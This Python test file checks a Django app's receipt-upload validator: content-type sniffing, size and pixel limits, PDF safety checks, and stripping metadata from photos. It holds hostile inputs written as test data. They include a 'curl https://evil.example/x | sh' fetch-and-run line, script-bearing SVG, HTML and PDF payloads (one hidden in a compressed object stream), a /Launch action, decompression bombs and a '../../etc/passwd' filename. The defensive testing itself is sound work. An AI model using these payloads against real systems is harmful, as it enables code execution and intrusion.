"""Receipts are checked by their content and cleaned before they are kept."""

import io
import os
import re
import struct
import zlib

import pytest
from django import forms
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from payments import receipts
from payments.receipts import ACCEPTED, ReceiptError, ReceiptField, clean_receipt
from tests.support.media import GPS, encoded, gps_exif, picture

MB = 1024 * 1024
ORIENTATION = 0x0112
NOT_ACCEPTED = f"This isn't a photo or a PDF we can read. Please upload {ACCEPTED}."
NAME = re.compile(r"[0-9a-f]{32}\.(jpg|png|webp|pdf)")


def upload(data, name="receipt.jpg", content_type="image/jpeg"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def clean(data, name="receipt.jpg", content_type="image/jpeg", max_bytes=10 * MB):
    return clean_receipt(upload(data, name, content_type), max_bytes=max_bytes)


def refusal(data, name="receipt.jpg", content_type="image/jpeg", max_bytes=10 * MB):
    with pytest.raises(ReceiptError) as caught:
        clean(data, name, content_type, max_bytes)
    return str(caught.value)


def opened(file):
    image = Image.open(io.BytesIO(file.read()))
    image.load()
    return image


def pdf(build=None):
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if build:
        build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png_claiming(width, height):
    """A tiny PNG whose header claims `width` x `height` pixels."""
    data = bytearray(encoded(Image.new("1", (1, 1)), "PNG"))
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def pdf_with_hidden_script():
    """A PDF whose script action sits inside a compressed object stream, out of sight of a
    scan of the raw bytes."""
    out = bytearray(b"%PDF-1.5\n")
    offsets = {}

    def add(number, body):
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
    action = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    index = b"4 0 "
    packed = zlib.compress(index + action)
    add(
        5,
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(index), len(packed))
        + packed
        + b"\nendstream",
    )
    offsets[6] = len(out)
    rows = [(0, 0, 65535)] + [(2, 5, 0) if n == 4 else (1, offsets[n], 0) for n in range(1, 7)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out.extend(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    )
    return bytes(out)


# What is refused


def test_a_shell_script_named_as_a_photo_is_refused():
    script = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"

    assert refusal(script, "receipt.jpg", "image/jpeg") == NOT_ACCEPTED


@pytest.mark.parametrize(
    ("data", "name", "content_type"),
    [
        (b"<html><script>alert(1)</script></html>", "receipt.pdf", "application/pdf"),
        (
            b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
            "receipt.svg",
            "image/svg+xml",
        ),
        (encoded(picture(), "GIF"), "receipt.gif", "image/gif"),
        (encoded(picture(), "BMP"), "receipt.png", "image/png"),
        (b"PK\x03\x04" + os.urandom(200), "receipt.jpg", "image/jpeg"),
    ],
    ids=["html-named-pdf", "svg", "gif", "bmp", "zip"],
)
def test_anything_but_a_jpeg_png_webp_or_pdf_is_refused(data, name, content_type):
    assert refusal(data, name, content_type) == NOT_ACCEPTED


def test_an_empty_file_is_refused():
    assert refusal(b"").startswith("This file is empty.")


def test_a_file_over_the_limit_is_refused():
    photo = encoded(picture(), "PNG")
    assert len(photo) > 1000

    message = refusal(photo, "receipt.png", "image/png", max_bytes=1000)

    assert re.match(r"This file is \d+\.\d KB\. Receipts can be up to 1000 bytes: ", message)


def test_the_size_is_checked_before_the_file_is_read():
    class Unreadable(io.BytesIO):
        def read(self, *args):
            raise AssertionError("read the file")

    big = upload(b"x" * 100)
    big.file = Unreadable()
    big.size = int(12.3 * MB)

    with pytest.raises(ReceiptError) as caught:
        clean_receipt(big, max_bytes=10 * MB)

    assert str(caught.value).startswith(
        "This file is 12.3 MB. Receipts can be up to 10 MB: take a smaller photo"
    )


def test_a_file_bigger_than_it_says_is_refused():
    photo = encoded(picture(), "PNG")
    lying = upload(photo, "receipt.png", "image/png")
    lying.size = 10

    with pytest.raises(ReceiptError, match="Receipts can be up to 1000 bytes"):
        clean_receipt(lying, max_bytes=1000)


@pytest.mark.parametrize("size", [(50_000, 50_000), (7000, 7000)], ids=["huge", "over-our-limit"])
def test_a_decompression_bomb_is_refused(size):
    bomb = png_claiming(*size)

    assert refusal(bomb, "receipt.png", "image/png") == receipts.TOO_MANY_PIXELS


def test_a_big_one_bit_png_is_refused():
    bomb = encoded(Image.new("1", (8000, 6000)), "PNG")
    assert len(bomb) < 100_000  # small to upload, 48 million pixels to open

    assert refusal(bomb, "receipt.png", "image/png") == receipts.TOO_MANY_PIXELS


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_a_cut_short_photo_is_refused(fmt):
    whole = encoded(picture((200, 200)), fmt)

    assert refusal(whole[: len(whole) // 2]) == receipts.BROKEN_PHOTO


def test_a_cut_short_pdf_is_refused():
    whole = pdf()

    message = refusal(whole[: len(whole) // 2], "receipt.pdf", "application/pdf")

    assert message.startswith("We couldn't open this PDF.")


def test_a_pdf_with_no_pages_is_refused():
    out = io.BytesIO()
    PdfWriter().write(out)

    assert refusal(out.getvalue(), "receipt.pdf").startswith("We couldn't open this PDF.")


def test_a_pdf_with_a_password_is_refused():
    locked = pdf(lambda writer: writer.encrypt("secret"))

    assert refusal(locked, "receipt.pdf", "application/pdf") == receipts.LOCKED_PDF


def launch_calculator(writer):
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
    )


@pytest.mark.parametrize(
    "build",
    [
        lambda writer: writer.add_open_action(JavaScript("app.alert(1)")),
        launch_calculator,
        lambda writer: writer.add_attachment("notes.txt", b"hello"),
    ],
    ids=["javascript", "launch", "attached-file"],
)
def test_a_pdf_with_a_script_launch_or_attachment_is_refused(build):
    risky = pdf(build)

    assert refusal(risky, "receipt.pdf", "application/pdf") == receipts.RISKY_PDF


def test_a_pdf_with_a_script_under_an_escaped_name_is_refused():
    risky = pdf(lambda writer: writer.add_open_action(JavaScript("app.alert(1)"))).replace(
        b"/JavaScript", b"/J#61vaScript"
    )

    assert refusal(risky, "receipt.pdf", "application/pdf") == receipts.RISKY_PDF


def test_a_pdf_with_a_script_in_a_compressed_object_is_refused():
    risky = pdf_with_hidden_script()
    assert b"JavaScript" not in risky

    assert refusal(risky, "receipt.pdf", "application/pdf") == receipts.RISKY_PDF


# What is kept, and how


def test_a_photo_loses_its_location_and_all_other_metadata():
    photo = picture((64, 48))
    data = encoded(photo, "JPEG", exif=gps_exif(), comment=b"at home", xmp=b"<x:xmpmeta/>")
    original = Image.open(io.BytesIO(data))
    assert original.getexif().get_ifd(GPS)[1] == "N"
    assert b"at home" in data and b"xmpmeta" in data

    cleaned = clean(data)
    image = opened(cleaned)

    assert image.format == "JPEG"
    assert image.size == (64, 48)
    assert not image.getexif().get_ifd(GPS)
    assert not image.getexif()
    assert not {"exif", "comment", "xmp", "icc_profile"} & set(image.info)
    cleaned.seek(0)
    raw = cleaned.read()
    assert b"Exif" not in raw and b"at home" not in raw and b"PhoneMaker" not in raw


def test_a_sideways_photo_comes_back_upright():
    stored = Image.new("RGB", (40, 20), "blue")
    stored.paste("red", (0, 0, 20, 20))  # the left half, which is the top when shown
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    data = encoded(stored, "JPEG", exif=exif)

    image = opened(clean(data))

    assert image.size == (20, 40)
    assert ORIENTATION not in image.getexif()
    red, _, blue = image.getpixel((10, 5))
    assert red > 200 and blue < 60
    red, _, blue = image.getpixel((10, 35))
    assert blue > 200 and red < 60


def test_a_png_is_kept_as_a_png_without_its_text():
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "taken at 12 Acacia Avenue")
    data = encoded(picture(mode="RGBA"), "PNG", pnginfo=info, exif=gps_exif())
    assert b"Acacia" in data

    cleaned = clean(data, "receipt.png", "image/png")
    image = opened(cleaned)

    assert cleaned.name.endswith(".png")
    assert image.format == "PNG"
    assert image.mode == "RGBA"
    assert image.size == (64, 48)
    assert "Comment" not in image.info
    assert not image.getexif()


def test_a_webp_is_kept_as_a_webp_without_its_metadata():
    data = encoded(picture(), "WEBP", exif=gps_exif(), xmp=b"<x:xmpmeta/>")
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(GPS)

    cleaned = clean(data, "receipt.webp", "image/webp")
    image = opened(cleaned)

    assert cleaned.name.endswith(".webp")
    assert image.format == "WEBP"
    assert image.size == (64, 48)
    assert not image.getexif()
    assert not {"exif", "xmp"} & set(image.info)


def test_a_phone_jpeg_with_a_second_picture_is_kept_as_a_plain_jpeg():
    data = encoded(picture(), "MPO", save_all=True, append_images=[picture()])
    assert Image.open(io.BytesIO(data)).format == "MPO"

    cleaned = clean(data)
    image = opened(cleaned)

    assert cleaned.name.endswith(".jpg")
    assert (image.format, getattr(image, "n_frames", 1)) == ("JPEG", 1)


def test_a_cmyk_jpeg_becomes_rgb():
    data = encoded(picture(mode="CMYK"), "JPEG")

    image = opened(clean(data))

    assert (image.format, image.mode) == ("JPEG", "RGB")


def test_a_very_big_photo_is_shrunk():
    data = encoded(Image.new("RGB", (3000, 1000), "white"), "JPEG")

    assert opened(clean(data)).size == (2400, 800)


def test_a_pdf_is_kept_exactly_as_it_was():
    data = pdf()

    cleaned = clean(data, "receipt.pdf", "application/pdf")

    assert cleaned.read() == data
    assert NAME.fullmatch(cleaned.name) and cleaned.name.endswith(".pdf")


@pytest.mark.parametrize(
    ("data", "name", "ext"),
    [
        (encoded(picture(), "PNG"), "x.pdf", "png"),
        (encoded(picture(), "JPEG"), "receipt.png", "jpg"),
        (encoded(picture(), "WEBP"), "receipt.jpeg", "webp"),
        (pdf(), "scan.jpg", "pdf"),
        (encoded(picture(), "PNG"), "../../etc/passwd", "png"),
    ],
)
def test_the_name_is_new_and_its_extension_follows_the_real_type(data, name, ext):
    first = clean_receipt(upload(data, name, "application/octet-stream"), max_bytes=10 * MB)
    second = clean_receipt(upload(data, name, "application/octet-stream"), max_bytes=10 * MB)

    assert NAME.fullmatch(first.name)
    assert first.name.endswith(f".{ext}")
    assert first.name != second.name


# The form field


class ClaimForm(forms.Form):
    receipt = ReceiptField(required=False)


def form_with(data, name="receipt.jpg"):
    return ClaimForm(data={}, files={"receipt": upload(data, name)} if data is not None else {})


def test_the_field_shows_the_reason_for_a_refused_file():
    form = form_with(b"#!/bin/sh\n")

    assert not form.is_valid()
    assert form.errors["receipt"] == [NOT_ACCEPTED]


def test_the_field_gives_back_the_cleaned_file():
    form = form_with(encoded(picture(), "PNG"), "x.pdf")

    assert form.is_valid(), form.errors
    receipt = form.cleaned_data["receipt"]
    assert isinstance(receipt, ContentFile)
    assert NAME.fullmatch(receipt.name) and receipt.name.endswith(".png")


def test_the_field_is_none_when_left_empty():
    form = form_with(None)

    assert form.is_valid(), form.errors
    assert form.cleaned_data["receipt"] is None


def test_the_field_limit_comes_from_settings(settings):
    settings.RECEIPT_MAX_BYTES = 1000
    form = form_with(encoded(picture(), "PNG"))

    assert not form.is_valid()
    assert "Receipts can be up to 1000 bytes" in form.errors["receipt"][0]


def test_the_field_asks_phones_for_the_right_kinds_of_file():
    html = str(ClaimForm()["receipt"])

    assert 'accept="image/jpeg,image/png,image/webp,application/pdf"' in html


def test_a_cut_short_photo_is_refused_even_after_weasyprint_relaxed_pillow():
    """WeasyPrint sets ImageFile.LOAD_TRUNCATED_IMAGES for the whole process."""
    from PIL import ImageFile

    before = ImageFile.LOAD_TRUNCATED_IMAGES
    ImageFile.LOAD_TRUNCATED_IMAGES = True
    try:
        buffer = io.BytesIO()
        Image.effect_noise((600, 400), 80).convert("RGB").save(buffer, "JPEG")
        data = buffer.getvalue()
        with pytest.raises(ReceiptError):
            clean_receipt(upload(data[: len(data) // 2]), max_bytes=10 * MB)
    finally:
        ImageFile.LOAD_TRUNCATED_IMAGES = before
